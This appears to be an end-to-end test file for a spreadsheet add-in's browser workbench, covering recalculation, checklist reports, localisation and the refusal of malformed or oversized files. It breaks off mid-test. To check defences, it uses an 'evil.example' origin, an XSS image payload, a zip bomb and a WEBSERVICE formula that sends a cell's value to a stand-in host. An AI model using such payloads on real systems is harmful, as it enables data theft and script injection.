/*
 * `npm start` on a machine without Excel, as a new user or CI would run it: it must serve the
 * browser workbench, whose spreadsheet runs the add-in's own functions on the planner template,
 * with the real task pane beside it — and `npm stop` must end it cleanly.
 */
import { spawnSync } from "child_process";
import fs from "fs";
import https from "https";
import path from "path";
import ExcelJS from "exceljs";
import type { Browser, Page } from "playwright-core";
import { BIG_ROWS, bigRowCpm, bigRowSpend, writeBigSheet } from "../support/big-sheet";
import { DEV_ENV, DEV_ORIGIN, DEV_PORT, DevServer, describeInBrowser, downloadAs, launchChromium, openSaved, openWorkbench, OUTPUT, startDevServer } from "../support/browser";
import { fontconfigWithout } from "../support/hidden-fonts";
import { makeZip } from "../support/zip";
import { DEFAULT_ASSUMPTIONS, formatAmount, requiredBudget } from "../../src/core";
import { assumptionRef } from "../../src/template/assumptions-sheet";
import { HISTORY_LAYOUT, NOTES_LAST_ROW, NOTES_LAYOUT } from "../../src/template/planner";

jest.setTimeout(240_000);

const root = path.resolve(__dirname, "..", "..");
const PORT = DEV_PORT;
const origin = DEV_ORIGIN;

let server: DevServer;
let browser: Browser;
/** A second browser, that finds neither Calibri nor Carlito on this machine (closed after the tests, failed or not). */
let fontless: Browser | undefined;

/** A GET to the dev server with the given headers: its status and response headers. */
function request(pathname: string, headers: Record<string, string>): Promise<{ status: number; headers: Record<string, unknown> }> {
  return new Promise((resolve, reject) => {
    const req = https.get(`${origin}${pathname}`, { rejectUnauthorized: false, headers }, (response) => {
      response.resume();
      resolve({ status: response.statusCode ?? 0, headers: response.headers });
    });
    // A websocket handshake the server accepts switches protocols instead of answering.
    req.on("upgrade", (response, socket) => {
      socket.destroy();
      resolve({ status: response.statusCode ?? 0, headers: response.headers });
    });
    req.on("error", reject);
  });
}

function websocketFrom(from: string) {
  return request("ws", {
    Origin: from,
    Connection: "Upgrade",
    Upgrade: "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": Buffer.from("spillsplit-tests").toString("base64"),
  });
}

const cell = (page: Page, a1: string) => page.textContent(`td[data-cell="${a1}"]`);
/** A number as the cell shows it, or — where its column is too narrow and it shows ####, as in Excel — as it shows on hover. */
const shownNumber = async (page: Page, a1: string) => {
  const text = (await cell(page, a1)) ?? "";
  // A number shortened to fit (####, or General's fewer digits) carries its full text on hover.
  const full = (await page.getAttribute(`td[data-cell="${a1}"]`, "title")) ?? text;
  return Number((full ?? "").replace(/,/g, ""));
};

describeInBrowser("npm start on Linux", () => {
  beforeAll(async () => {
    server = await startDevServer();
    browser = await launchChromium();
    fs.mkdirSync(OUTPUT, { recursive: true });
  });

  afterAll(async () => {
    await browser?.close();
    await fontless?.close();
    server?.stop();
  });

  it("says there is no Excel here and where the workbench is", () => {
    expect(server.output()).toContain("There is no Excel to sideload into on linux");
    expect(server.output()).toContain(`Spillsplit workbench:  ${origin}workbench.html`);
  });

  it("its own address opens the workbench, and the pages' icon is there (no 404)", async () => {
    const home = await request("", {});
    expect(home.status).toBe(302);
    expect(home.headers.location).toBe("/workbench.html");
    expect((await request("assets/icon-32.png", {})).status).toBe(200);
  });

  it("shares its files only with its own origin and Office on the web, and its websocket only with its own pages", async () => {
    const own = origin.replace(/\/$/, "");
    const evil = await request("functions.json", { Origin: "https://evil.example" });
    expect(evil.status).toBe(200);
    expect(evil.headers["access-control-allow-origin"]).toBeUndefined();
    const plain = await request("functions.json", {});
    expect(plain.headers["access-control-allow-origin"]).toBeUndefined();
    expect((await request("functions.json", { Origin: own })).headers["access-control-allow-origin"]).toBe(own);
    const office = "https://excel.officeapps.live.com";
    expect((await request("functions.json", { Origin: office })).headers["access-control-allow-origin"]).toBe(office);
    // Live reload: its own page may connect; another site, or another port on this machine, may not.
    expect((await websocketFrom(own)).status).toBe(101);
    expect((await websocketFrom("https://evil.example")).status).not.toBe(101);
    expect((await websocketFrom(`https://localhost:${PORT + 1}`)).status).not.toBe(101);
    expect((await websocketFrom("null")).status).not.toBe(101);
  });

  it("serves the workbench on the planner template, with the task pane beside it", async () => {
    const { page, outside, errors } = await openWorkbench(browser);
    expect(errors).toEqual([]);
    expect(await page.textContent("#file-name")).toBe("spillsplit-planner.xlsx");
    const tabs = await page.locator('[role="tab"]').allTextContents();
    expect(tabs).toEqual(["Read me 使用说明", "Summary", "Assumptions", "Cold start", "Growth", "Mature", "Notes", "Lines", "NPL 笔记·人群·直播", "CPM history"]);
    expect(await cell(page, "C10")).toBe("150,000.00"); // growth: half of 300,000, in the template's format
    expect(await page.textContent("#root #sheet")).toBe("Growth");
    // The file's look (issue 25 item 5): input cells blue as the sheet says, column widths from the file.
    const look = (a1: string) => page.$eval(`td[data-cell="${a1}"]`, (td) => ({ background: getComputedStyle(td).backgroundColor, color: getComputedStyle(td).color, width: td.getBoundingClientRect().width }));
    expect(await look("B10")).toMatchObject({ background: "rgb(232, 241, 251)", color: "rgb(15, 76, 158)" });
    expect((await look("A10")).width).toBeGreaterThan((await look("B10")).width); // column A is 40 characters, B 16
    await page.screenshot({ path: path.join(OUTPUT, "workbench-look.png") });
    expect(outside).toEqual([]);
    await page.context().close();
  });

  it("recalculates the split, CPMs and cap check when a budget is typed", async () => {
    const { page, outside } = await openWorkbench(browser);
    await page.click('td[data-cell="B10"]');
    await page.keyboard.type("500000");
    await page.keyboard.press("Enter");
    expect(await cell(page, "B10")).toBe("500,000.00");
    expect(await cell(page, "C10")).toBe("250,000.00"); // SPILLSPLIT("growth", 500000) → 250000 | 250000
    expect(await cell(page, "D10")).toBe("250,000.00");
    expect(await cell(page, "E10")).toBe("112.00"); // 80 × 1.4
    expect(await cell(page, "F10")).toBe("176.99"); // MARGINALCPM(500000, 80)
    expect(await cell(page, "I10")).toBe("Within cap 在上限内");
    await page.click('td[data-cell="B10"]');
    await page.keyboard.type("600000");
    await page.keyboard.press("Enter");
    expect(await cell(page, "I10")).toBe("Over cap 超出上限");
    expect(await cell(page, "B22")).toBe("5,700,000.00");
    await page.click('td[data-cell="C10"]');
    expect(await page.inputValue("#formula")).toBe('=RED.SPILLSPLIT($B$3,B10,"spillover",Assumptions!$A$1:$B$22)');
    await page.screenshot({ path: path.join(OUTPUT, "workbench.png") });

    // Download the edited workbook and read it back.
    const { saved, workbook } = await downloadAs(page, "workbench-download.xlsx");
    expect(workbook.getWorksheet("Growth")!.getCell("B10").value).toBe(600_000);
    // In Excel's stored form, with the value after the edit cached beside it (issue 13).
    expect(workbook.getWorksheet("Growth")!.getCell("C10").value).toEqual({ formula: '_xldudf_RED_SPILLSPLIT($B$3,B10,"spillover",Assumptions!$A$1:$B$22)', result: 300_000 });
    expect(workbook.getWorksheet("Growth")!.getCell("I10").value).toMatchObject({ result: "Over cap 超出上限" });
    expect(workbook.getWorksheet("Notes")!.getCell(NOTES_LAYOUT.hotRate).value).toMatchObject({ formula: `_xlfn.PERCENTILE.INC(E2:E${NOTES_LAST_ROW},0.75)` });
    // It is the template with the edit, not a plain copy: styles, widths and frozen panes stay.
    const growthSheet = workbook.getWorksheet("Growth")!;
    expect(growthSheet.getCell("B10").numFmt).toBe(growthSheet.getCell("B11").numFmt);
    expect(growthSheet.getCell("B10").fill).toMatchObject({ type: "pattern", pattern: "solid" });
    expect(growthSheet.getCell("A9").font).toMatchObject({ bold: true });
    expect(growthSheet.getColumn(1).width).toBeGreaterThan(20);
    expect(growthSheet.views[0]).toMatchObject({ state: "frozen" });

    // Open it again through the file picker: just downloaded, nothing is lost, so the page does not ask.
    let asked = "";
    // Every question is answered no: had the page asked here, the file would not open.
    page.on("dialog", (dialog) => {
      asked = dialog.message();
      void dialog.dismiss();
    });
    await openSaved(page, saved);
    expect(await cell(page, "B10")).toBe("600,000.00");
    expect(asked).toBe("");
    // Edited, then Open again: the page asks first, as Excel asks before closing an unsaved workbook — and
    // when the planner says no, the workbook stays as it was.
    await page.click('td[data-cell="B10"]');
    await page.keyboard.type("700000");
    await page.keyboard.press("Enter");
    await page.setInputFiles("#open", saved);
    await page.waitForTimeout(300);
    expect(asked).toMatch(/^Open workbench-download\.xlsx\? Your edits to .* are lost unless you download it first\.$/);
    expect(await cell(page, "B10")).toBe("700,000.00");
    expect(outside).toEqual([]);
    await page.context().close();
  });

  it("shows the task pane in Chinese when asked", async () => {
    const context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1400, height: 820 } });
    const page = await context.newPage();
    await page.goto(`${origin}workbench.html?lang=zh-CN`);
    await page.waitForSelector("body[data-ready=true]", { timeout: 60_000 });
    await page.waitForSelector('[data-minefield="2"] [data-status]');
    expect(await page.textContent("#root h1")).toBe("预算雷区");
    expect(await page.textContent('[data-minefield="2"] h3')).toBe("2. 预算越多效果越好？");
    expect(await page.textContent("#download")).toBe("下载 .xlsx");
    // The chart speaks in 万, as Chinese planners count money.
    expect(await page.getAttribute('[data-check="budget"] svg', "aria-label")).toContain("本月 30万，拟定 30万，上限 54.8万");
    await page.locator('[data-minefield="2"]').screenshot({ path: path.join(OUTPUT, "checklist-minefield2-zh.png") });
    await page.locator('[data-minefield="3"]').screenshot({ path: path.join(OUTPUT, "checklist-minefield3-zh.png") });
    await page.click('[role="tab"]:has-text("Notes")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Notes");
    // The functions speak the display language, as in Chinese Excel: HOTNOTES labels in Chinese.
    expect(await cell(page, "G2")).toBe("有效爆文");
    expect(await cell(page, "G3")).toBe("普通");
    // Long text runs on over empty cells to its right, as in Excel, and stops at a filled one.
    const overflow = (a1: string) =>
      page.$eval(`td[data-cell="${a1}"]`, (td) => (td.firstElementChild?.getBoundingClientRect().width ?? 0) - td.getBoundingClientRect().width);
    expect(await overflow(NOTES_LAYOUT.note)).toBeGreaterThan(100);
    expect(await overflow(NOTES_LAYOUT.hotRate.replace(/^J/, "I"))).toBeLessThanOrEqual(0);
    await page.screenshot({ path: path.join(OUTPUT, "workbench-zh.png") });
    await context.close();
  });

  it("walks the minefields checklist on the growth scenario: live checks, answers, report, reload", async () => {
    const { page, outside, errors } = await openWorkbench(browser);
    const status = (id: number) => page.getAttribute(`[data-minefield="${id}"] [data-status]`, "data-status");
    await page.waitForSelector('[data-minefield="2"] [data-status]');
    // January → February in the template: 300,000 → 300,000, well within the 547,756 cap.
    expect(await status(2)).toBe("clear");
    expect(await page.textContent('[data-check="budget"]')).toContain("547,756");
    // Minefield 3 reads the Notes sheet.
    expect(await status(3)).toBe("risk");
    expect(await page.textContent('[data-list="hollow"]')).toBe("Funny skit 搞笑短剧");
    expect(await page.textContent('[data-list="hidden"]')).toContain("Ingredient deep-dive 成分解析");

    // The template's CPM history gives a band of caps: its months are drawn, with the fitted curve and its interval.
    expect(await page.textContent('[data-check="budget"]')).toContain("(90% interval)");
    expect(await page.locator('[data-check="budget"] circle[data-chart="month"]').count()).toBe(12);
    expect(await page.locator('[data-check="budget"] [data-chart="fit-band"]').count()).toBe(1);
    expect(await page.getAttribute('[data-check="budget"] svg', "aria-label")).toContain("Your 12 month(s) from the CPM history sheet");

    /** Types `text` into `a1` on the sheet `tab`, back on Growth, and waits for minefield 2's status (and words). */
    const typeAndWait = async (tab: string, a1: string, text: string, expected: string, showing = "") => {
      if (tab !== "Growth") await page.click(`[role="tab"]:has-text("${tab}")`);
      await page.click(`td[data-cell="${a1}"]`);
      await page.keyboard.type(text);
      await page.keyboard.press("Enter");
      if (tab !== "Growth") await page.click('[role="tab"]:has-text("Growth")');
      await page.waitForFunction(
        ([want, words]) =>
          document.querySelector('[data-minefield="2"] [data-status]')?.getAttribute("data-status") === want &&
          (document.querySelector('[data-check="budget"]')?.textContent ?? "").includes(words),
        [expected, showing],
      );
    };

    // Propose 450,000 for February: within the 547,756 cap that plans the year, but past the
    // pessimistic cap of the planner's own months (about 375k): watch, and the card says why.
    await typeAndWait("Growth", "B11", "450000", "watch");
    expect(await cell(page, "I11")).toBe("Within cap 在上限内");
    expect(await page.textContent('[data-check="budget"]')).toContain("Watch: it is within the budget cap but past the pessimistic cap of your CPM history");
    expect(await page.getAttribute('[data-check="budget"] svg', "aria-label")).toContain("cap 548k");
    await page.locator('[data-minefield="2"]').screenshot({ path: path.join(OUTPUT, "checklist-minefield2-band.png") });

    // Issue 21 item 2: 600,000 is over the cap on the sheet, so it is risk in the pane too — inside the band or not.
    await typeAndWait("Growth", "B11", "600000", "risk", "600,000 is over");
    expect(await cell(page, "I11")).toBe("Over cap 超出上限");
    expect(await page.textContent('[data-check="budget"]')).toContain("Risk: 600,000 is over the budget cap of 547,756 (the sheet's vs cap says Over cap).");

    // Issue 21 items 1 and 3: a refused assumptions table (cpm_elasticity 1.5) turns every RED cell to
    // #NUM!, and the pane says so instead of a verdict.
    await typeAndWait("Assumptions", "B3", "1.5", "unanswered");
    expect(await page.textContent('[data-check="budget"]')).toContain("The assumptions table Assumptions!A1:B22 that this scenario's formulas read is refused");
    await page.locator('[data-minefield="2"]').screenshot({ path: path.join(OUTPUT, "checklist-minefield2-refused.png") });
    await typeAndWait("Assumptions", "B3", "=LN(1.4)/LN(2.5)", "risk", "547,756"); // the default again, as REDDEFAULTS gives it

    // Propose 950,000: past the cap even at the optimistic end, minefield 2 turns to risk.
    await typeAndWait("Growth", "B11", "950000", "risk", "950,000 is over");
    expect(await page.textContent('[data-check="budget"]')).toContain("Risk: it is past the cap even at the optimistic end of your CPM history");

    // Answer the others, by keyboard and by mouse; a note with markup stays text.
    const xss = "<img src=x onerror=alert(1)>";
    await page.check('[data-minefield="1"] input[value="clear"]');
    await page.fill('[data-minefield="1"] textarea', "Scenario series planned for the office snack line.");
    await page.check('[data-minefield="4"] input[value="watch"]');
    await page.fill('[data-minefield="4"] textarea', xss);
    for (const id of [5, 7]) await page.check(`[data-minefield="${id}"] input[value="clear"]`);
    // Minefield 6 is decided by the NPL sheet: the loyal customers bring GMV and the group-chat line has a budget.
    expect(await status(6)).toBe("clear");
    expect(await page.textContent('[data-check="owned-users"]')).toContain("5.1×");
    expect(await page.locator('[data-minefield="6"] input[type="radio"]').count()).toBe(0);
    await page.fill('[data-minefield="2"] textarea', "Hold February at the cap.");
    expect(await status(1)).toBe("clear");
    expect(await status(4)).toBe("watch");
    expect(await page.locator("img[src=x]").count()).toBe(0);

    // Write the report: this scenario's own Minefields sheet, one row per minefield.
    await page.click("#write-report");
    await page.waitForSelector("#notice");
    expect(await page.textContent("#notice")).toContain("Minefields - Growth");
    await page.click('[role="tab"]:has-text("Minefields")');
    await page.waitForSelector("#report-sheet");
    expect(await page.locator('[data-binding="thisMonth"]').count()).toBe(0);
    expect(await page.locator("[data-minefield]").count()).toBe(0);
    expect(await page.locator("#write-report").count()).toBe(0);
    expect(await cell(page, "A1")).toBe("Minefield");
    expect(await cell(page, "B3")).toBe("Risk");
    expect(await cell(page, "C3")).toContain("547,756");
    expect(await cell(page, "D3")).toBe("Hold February at the cap.");
    expect(await cell(page, "D5")).toBe(xss);
    expect(await cell(page, "B7")).toBe("Clear");
    expect(await cell(page, "C7")).toContain("group-chat join rate");
    expect(await cell(page, "B8")).toBe("Clear");
    await page.screenshot({ path: path.join(OUTPUT, "checklist-report.png") });

    // Reload the task pane: every answer is still there, read back from the workbook's settings.
    await page.click('[role="tab"]:has-text("Growth")');
    await page.waitForTimeout(600); // the pane saves 300 ms after the last change
    await page.click("#reload-pane");
    await page.waitForSelector('[data-minefield="2"] [data-status="risk"]');
    expect(await status(1)).toBe("clear");
    expect(await status(4)).toBe("watch");
    expect(await page.inputValue('[data-minefield="1"] textarea')).toBe("Scenario series planned for the office snack line.");
    expect(await page.inputValue('[data-minefield="4"] textarea')).toBe(xss);
    expect(await page.inputValue('[data-minefield="2"] textarea')).toBe("Hold February at the cap.");
    expect(await page.locator("img[src=x]").count()).toBe(0);
    await page.locator("#root").screenshot({ path: path.join(OUTPUT, "checklist-en.png") });
    await page.locator('[data-minefield="2"]').screenshot({ path: path.join(OUTPUT, "checklist-minefield2-en.png") });

    // Re-running the report updates the sheet in place.
    await page.fill('[data-minefield="2"] textarea', "Cut February to 540,000.");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice") !== null);
    const tabs = await page.locator('[role="tab"]').allTextContents();
    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth"]);

    // Insert a scenario sheet from the template: the pane follows it.
    await page.click("#insert-scenario");
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Scenario 1");
    expect(await cell(page, "C10")).toBe("150,000.00");
    expect(errors).toEqual([]);
    expect(outside).toEqual([]);
    await page.context().close();
  });

  /** Writes a workbook made with ExcelJS into test-output and opens it through the file picker. */
  async function openFile(page: Page, name: string, build: (workbook: ExcelJS.Workbook) => void): Promise<void> {
    const workbook = new ExcelJS.Workbook();
    build(workbook);
    const file = path.join(OUTPUT, name);
    await workbook.xlsx.writeFile(file);
    await page.setInputFiles("#open", file);
  }

  /** Opens a workbook of one sheet, `name`, whose cells `fill` writes, and waits until the page shows it. */
  async function openSheet(page: Page, name: string, fill: (sheet: ExcelJS.Worksheet) => void): Promise<void> {
    await openFile(page, `${name}.xlsx`, (workbook) => fill(workbook.addWorksheet(name)));
    await page.waitForFunction((file) => document.querySelector("#file-name")?.textContent === file, `${name}.xlsx`);
  }

  const status = (page: Page, id: number) => page.getAttribute(`[data-minefield="${id}"] [data-status]`, "data-status");

  it("notes are written as text, and each scenario has its own report", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector('[data-minefield="2"] [data-status]');
    await page.click('[role="tab"]:has-text("Growth")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
    const hostile = '=WEBSERVICE("http://evil.example/?"&Growth!B4)';
    await page.fill('[data-minefield="1"] textarea', "=1+1");
    await page.fill('[data-minefield="4"] textarea', hostile);
    await page.fill('[data-minefield="5"] textarea', "-5% CPM, 10%");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
    await page.click('[role="tab"]:has-text("Minefields - Growth")');
    await page.waitForSelector("#report-sheet");
    expect(await cell(page, "D2")).toBe("=1+1");
    expect(await cell(page, "D5")).toBe(hostile);
    expect(await cell(page, "D6")).toBe("-5% CPM, 10%");
    expect(await page.locator('td[data-cell="D2"].formula').count()).toBe(0);
    // Another scenario's report is its own sheet; Growth's stays as it was.
    await page.click('[role="tab"]:has-text("Mature")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Mature");
    await page.waitForSelector('[data-minefield="1"] textarea');
    await page.fill('[data-minefield="1"] textarea', "mature plan");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Mature"));
    const tabs = await page.locator('[role="tab"]').allTextContents();
    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth", "Minefields - Mature"]);
    await page.click('[role="tab"]:has-text("Minefields - Growth")');
    expect(await cell(page, "D2")).toBe("=1+1");
    // A report sheet the user has taken over (its header replaced) is theirs now: the next report
    // goes to a new sheet and leaves it as the user made it.
    await page.click('[role="tab"]:has-text("Minefields - Mature")');
    await page.click('td[data-cell="A1"]');
    await page.keyboard.type("my own table");
    await page.keyboard.press("Enter");
    await page.click('[role="tab"]:text-is("Mature")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Mature");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Mature (2)"));
    await page.click('[role="tab"]:text-is("Minefields - Mature")');
    expect(await cell(page, "A1")).toBe("my own table");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a user's own sheet called Minefields is never written into", async () => {
    const { page } = await openWorkbench(browser);
    await openFile(page, "has-minefields.xlsx", (workbook) => {
      workbook.addWorksheet("MINEFIELDS").getCell("A1").value = "my own checklist";
      const plan = workbook.addWorksheet("Plan");
      plan.getCell("A1").value = "budget";
      plan.getCell("B1").value = 300000;
    });
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "has-minefields.xlsx");
    await page.click('[role="tab"]:has-text("Plan")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Plan"));
    await page.click('[role="tab"]:has-text("MINEFIELDS")');
    expect(await cell(page, "A1")).toBe("my own checklist");
    expect(await cell(page, "A2")).toBe("");
    // The user's sheet is a sheet like any other: the checklist shows there, not the report notice.
    expect(await page.locator("#report-sheet").count()).toBe(0);
    await page.context().close();
  });

  it("Insert scenario never replaces a user's sheet whose name differs only in case", async () => {
    const { page, errors } = await openWorkbench(browser);
    await openFile(page, "case.xlsx", (workbook) => {
      const assumptions = workbook.addWorksheet("assumptions");
      assumptions.getCell("A1").value = "my own assumptions";
      assumptions.getCell("B1").value = 42;
      workbook.addWorksheet("scenario 1").getCell("A1").value = "my own scenario";
    });
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "case.xlsx");
    await page.waitForSelector("#insert-scenario");
    await page.click("#insert-scenario");
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Scenario 2");
    const tabs = await page.locator('[role="tab"]').allTextContents();
    expect(tabs).toEqual(["assumptions", "scenario 1", "Assumptions (2)", "Scenario 2"]);
    // The new scenario reads its own assumptions and computes: growth, half of 300,000.
    expect(await cell(page, "C10")).toBe("150,000.00");
    await page.click('td[data-cell="C10"]');
    expect(await page.inputValue("#formula")).toContain("'Assumptions (2)'!$A$1:$B$22");
    await page.click('[role="tab"]:has-text("assumptions")');
    expect(await cell(page, "A1")).toBe("my own assumptions");
    expect(await cell(page, "B1")).toBe("42");
    await page.click('[role="tab"]:has-text("scenario 1")');
    expect(await cell(page, "A1")).toBe("my own scenario");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  // The code that makes the template's sheets is new-sheets.[hash].js, out of taskpane.js (README: Performance).
  it("Insert scenario fetches the code that makes the sheet only when pressed; a fetch that fails says so in both languages and adds nothing, and the next press fetches it and inserts", async () => {
    const NEW_SHEETS = /\/new-sheets\.[0-9a-f]{8}\.js$/;
    const fetched: string[] = [];
    let refuse = true;
    const { page, errors } = await openWorkbench(browser, async (page) => {
      page.on("request", (request) => void (NEW_SHEETS.test(new URL(request.url()).pathname) && fetched.push(request.url())));
      await page.route(NEW_SHEETS, (route) => (refuse ? route.abort("connectionfailed") : route.continue()));
    });
    await page.waitForSelector("#insert-scenario");
    const tabs = await page.locator('[role="tab"]').allTextContents();
    expect(fetched).toEqual([]); // the pane is up and reading the workbook without it
    await page.click("#insert-scenario");
    await page.waitForSelector("#problem");
    expect(await page.textContent("#problem")).toContain("The code that adds the template's sheets and charts did not arrive");
    await page.click("#language");
    expect(await page.textContent("#problem")).toContain("用于添加模板工作表和图表的代码未能加载");
    await page.click("#language");
    expect(await page.locator('[role="tab"]').allTextContents()).toEqual(tabs); // nothing was added
    expect(fetched).toHaveLength(1);
    refuse = false;
    await page.click("#insert-scenario");
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Scenario 1");
    expect(await page.locator('[role="tab"]').allTextContents()).toEqual([...tabs, "Scenario 1"]);
    expect(fetched).toHaveLength(2); // fetched again, once
    expect(await page.locator("#problem").count()).toBe(0);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("says the note limit where the user types, keeps the note whole, and saves a note typed just before the pane closes", async () => {
    const { page } = await openWorkbench(browser);
    await page.waitForSelector('[data-minefield="6"] textarea');
    const hint = page.locator('[data-note-length="6"]');
    expect(await hint.textContent()).toBe("0 of 5,000 characters");
    // Pasting 100,000 characters keeps the first 5,000, and says so.
    await page.fill('[data-minefield="6"] textarea', "长".repeat(100_000));
    expect((await page.inputValue('[data-minefield="6"] textarea')).length).toBe(5000);
    expect(await hint.textContent()).toBe("5,000 of 5,000 characters: a note keeps at most 5,000.");
    await page.fill('[data-minefield="7"] textarea', "typed just before closing");
    // At once, well inside the 300 ms the pane waits before saving: the unmount saves it.
    await page.click("#reload-pane");
    await page.waitForSelector('[data-minefield="7"] textarea');
    await page.waitForFunction(() => (document.querySelector('[data-minefield="7"] textarea') as HTMLTextAreaElement)?.value !== "");
    expect(await page.inputValue('[data-minefield="7"] textarea')).toBe("typed just before closing");
    expect(await page.inputValue('[data-minefield="6"] textarea')).toBe("长".repeat(5000));
    await page.locator('[data-minefield="6"]').screenshot({ path: path.join(OUTPUT, "checklist-note-limit-en.png") });
    await page.context().close();
  });

  it("a file that cannot be opened leaves the open workbook working, and says why", async () => {
    const { page, errors } = await openWorkbench(browser);
    const message = () => page.textContent("#message");
    const refused = async (file: string, contains: string) => {
      await page.setInputFiles("#open", file);
      await page.waitForFunction((name) => document.querySelector("#message")?.textContent?.startsWith(`Could not open ${name}`), path.basename(file));
      expect(await message()).toContain(contains);
      expect(await message()).toContain("The workbook you had open is unchanged.");
      expect(await page.textContent("#file-name")).toBe("spillsplit-planner.xlsx");
    };
    const notXlsx = path.join(OUTPUT, "not-a-workbook.xlsx");
    fs.writeFileSync(notXlsx, "this is text, not a zip");
    await refused(notXlsx, "is not an .xlsx workbook");
    const noSheets = path.join(OUTPUT, "no-sheets.xlsx");
    fs.writeFileSync(noSheets, makeZip([{ name: "[Content_Types].xml", data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') }]));
    await refused(noSheets, "Could not open no-sheets.xlsx");
    // A 1 MB-odd file that would unpack to over 50 MB is refused from its directory, at once.
    const bomb = path.join(OUTPUT, "bomb.xlsx");
    fs.writeFileSync(bomb, makeZip([{ name: "xl/sharedStrings.xml", data: Buffer.alloc(60 * 1024 * 1024, 0x61) }]));
    const started = Date.now();
    await refused(bomb, "up to 50 MB unpacked");
    expect(Date.now() - started).toBeLessThan(5000);
    // A file larger than the limit on disk is refused before it is read at all.
    const huge = path.join(OUTPUT, "huge.xlsx");
    fs.writeFileSync(huge, Buffer.alloc(51 * 1024 * 1024));
    await refused(huge, "up to 50 MB unpacked");
    fs.rmSync(huge);
    await openFile(page, "too-many-rows.xlsx", (workbook) => {
      const sheet = workbook.addWorksheet("Big");
      for (let r = 1; r <= 40_001; r++) sheet.getCell(r, 1).value = r;
    });
    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.startsWith("Could not open too-many-rows.xlsx"));
    expect(await message()).toContain("“Big” has 40,001 rows");
    expect(await message()).toContain("up to 40,000 rows");
    // The workbook that was open still computes, and still downloads.
    await page.click('[role="tab"]:has-text("Growth")');
    await page.click('td[data-cell="B10"]');
    await page.keyboard.type("500000");
    await page.keyboard.press("Enter");
    expect(await cell(page, "C10")).toBe("250,000.00");
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download")]);
    expect(await download.failure()).toBeNull();
    await page.screenshot({ path: path.join(OUTPUT, "workbench-open-refused.png") });
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("answers belong to the workbook opened, not to its file name", async () => {
    const { page } = await openWorkbench(browser);
    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
    await page.check('[data-minefield="5"] input[value="clear"]');
    await page.fill('[data-minefield="5"] textarea', "answered in the template");
    await page.waitForTimeout(600);
    // An answer is a change to the workbook: opening another file asks first (yes here).
    let asked = "";
    page.once("dialog", (dialog) => {
      asked = dialog.message();
      void dialog.accept();
    });
    // Another file that happens to have the same name.
    await openFile(page, "spillsplit-planner.xlsx", (workbook) => {
      workbook.addWorksheet("Growth").getCell("A1").value = "someone else's plan";
    });
    await page.waitForFunction(() => document.querySelector("#message")?.textContent === "Opened spillsplit-planner.xlsx.");
    expect(asked).toMatch(/^Open spillsplit-planner\.xlsx\? Your edits to spillsplit-planner\.xlsx are lost unless you download it first\.$/);
    // That Growth is no scenario sheet: its minefields show once the planner chooses to bind cells there.
    await page.click("#bind-this-sheet");
    await page.waitForSelector('[data-minefield="5"] textarea');
    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("");
    expect(await status(page, 5)).toBe("unanswered");
    await page.context().close();
  });

  it("renaming a sheet keeps its answers, its report and the bindings on it", async () => {
    const { page, errors } = await openWorkbench(browser);
    const rename = async (tab: string, to: string) => {
      page.once("dialog", (dialog) => void dialog.accept(to));
      await page.dblclick(`[role="tab"]:text-is("${tab}")`);
    };
    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
    await page.check('[data-minefield="5"] input[value="clear"]');
    await page.fill('[data-minefield="5"] textarea', "kept through the rename");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
    // The scenario sheet renamed: the pane follows it, answers and all.
    await rename("Growth", "Plan A");
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan A");
    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("kept through the rename");
    expect(await status(page, 5)).toBe("clear");
    // Its report renamed too: the next report rewrites that sheet, and adds none.
    await rename("Minefields - Growth", "Checked");
    await page.click('[role="tab"]:text-is("Plan A")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan A");
    await page.fill('[data-minefield="5"] textarea', "second report");
    await page.click("#write-report");
    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Checked"));
    const tabs = await page.locator('[role="tab"]').allTextContents();
    expect(tabs).toEqual(["Read me 使用说明", "Summary", "Assumptions", "Cold start", "Plan A", "Mature", "Notes", "Lines", "NPL 笔记·人群·直播", "CPM history", "Checked"]);
    await page.click('[role="tab"]:text-is("Checked")');
    await page.waitForSelector("#report-sheet");
    expect(await cell(page, "D6")).toBe("second report");
    // A name another sheet has, in any case, is refused.
    await rename("Checked", "summary");
    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.includes("cannot be a sheet name"));
